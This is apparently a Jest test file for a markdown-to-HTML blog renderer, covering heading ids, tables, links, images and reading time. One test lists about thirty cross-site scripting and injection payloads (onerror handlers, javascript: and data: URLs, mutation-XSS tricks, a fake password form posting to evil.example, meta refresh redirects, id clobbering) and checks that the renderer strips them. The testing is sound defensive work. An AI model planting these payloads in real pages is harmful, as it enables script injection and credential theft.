import { renderPost } from './render-post.js';

const html = (markdown: string) => renderPost(markdown).html;

describe('renderPost', () => {
  it('gives headings addresses and lists those of level 2', () => {
    const post = renderPost('## A *first* part\n\n### Détail\n\n## A first part\n\n## 東京 & you');
    expect(post.headings).toEqual([
      { id: 'section-a-first-part', text: 'A first part' },
      { id: 'section-a-first-part-2', text: 'A first part' },
      { id: 'section-東京-you', text: '東京 & you' },
    ]);
    for (const { id } of post.headings) expect(post.html).toContain(`<h2 id="${id}">`);
  });

  it('leaves the h1 to the page', () => {
    expect(html('# Title')).toBe('<h2 id="section-title">Title</h2>\n');
  });

  it('puts a table into a box that scrolls, with its columns named', () => {
    const table = html('| Stay | Days |\n| --- | ---: |\n| First | 40 |');
    expect(table).toContain(
      '<div class="table-scroll" role="region" tabindex="0" aria-label="Table: Stay, Days">',
    );
    expect(table).toContain('<th scope="col" align="right">Days</th>');
    expect(table).toContain('<td align="right">40</td>');
  });

  it('keeps a callout as a quotation and a task as a marked item without a control', () => {
    expect(html('> **Note.** Look')).toContain('<blockquote>\n<p><strong>Note.</strong> Look</p>');
    expect(html('- [ ] Count')).toMatch(/<li class="task">\s*Count<\/li>/);
    expect(html('- [x] Count')).toMatch(/<li class="task task-done">\s*Count<\/li>/);
  });

  it('marks links that leave the site and leaves the others alone', () => {
    expect(html('[out](https://example.org/a)')).toContain(
      '<a href="https://example.org/a" rel="noopener">out</a>',
    );
    expect(html('[in](/wanderlens)')).toContain('<a href="/wanderlens">in</a>');
    // Browsers read "/\\" as "//": another site.
    expect(html('<a href="/\\elsewhere.example">out</a>')).toContain('rel="noopener"');
  });

  it('keeps a link whose address has brackets', () => {
    expect(html('[x](https://doi.org/10.1016/0022-1031(92)90055-O)')).toContain('(92)90055-O"');
  });

  it('shows pictures of this site only', () => {
    expect(html('![a](/api/art/posts/x.svg)')).toContain('src="/api/art/posts/x.svg"');
    expect(html('![a](https://elsewhere.example/p.gif) ![b](//elsewhere.example/p.gif)')).not.toContain(
      '<img',
    );
    expect(
      html('<img src="/\\elsewhere.example/p.gif"> <img src="//elsewhere.example/p.gif">'),
    ).not.toContain('<img');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="/a.svg" onerror="alert(1)">',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox(1))',
    '![x](javascript:alert(1))',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<p style="position:fixed;inset:0" class="overlay" id="root">x</p>',
    '<div onclick="alert(1)" data-x="1">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<details open ontoggle=alert(1)>x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '## <img src=x onerror=alert(1)> "onmouseover="alert(1)',
    '| <img src=x onerror=alert(1)> " onfocus="alert(1) |\n| --- |\n| <script>alert(1)</script> |',
    '[x]("onmouseover="alert(1))',
    '[a](https://x.example "t\\" onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    '> [!note] <img src=x onerror=alert(1)>',
    '<div class="callout overlay" role="dialog" style="inset:0">x</div>',
    'A[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
    'A[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    '{{city:"><script>alert(1)</script>}} {{city:lisbon.<img/src=x/onerror=alert(1)>}}',
    '{{city-card:"onmouseover="alert(1)}}',
    '<data value="city:lisbon.food" onclick="alert(1)">x</data>',
    '<h2 id="root">x</h2><a id="root" href="#x">x</a><li id="root">x</li>',
  ])('disarms %s', (payload) => {
    const tags = html(payload).match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).not.toMatch(
        /^<\/?(?:script|style|iframe|svg|math|form|input|button|meta|base|details|noscript)\b/i,
      );
      const names = [...tag.replace(/"[^"]*"/g, '""').matchAll(/\s([^\s=>/]+)(?==|\s|>)/g)].map(
        (match) => match[1],
      );
      for (const name of names) expect(name).not.toMatch(/^(?:on|style$|srcdoc$|data-)/i);
      const addresses = [...tag.matchAll(/(?:href|src)="([^"]*)"/g)].map((match) => match[1]);
      for (const address of addresses) expect(address).toMatch(/^(?:https?:|mailto:|[^:&]*$)/);
      expect(tag).not.toMatch(/id="root"|class="[^"]*overlay|role="dialog"/);
    }
  });

  it('counts the minutes of the text as written', () => {
    expect(renderPost('a'.repeat(2001)).readMinutes).toBe(2);
  });
});
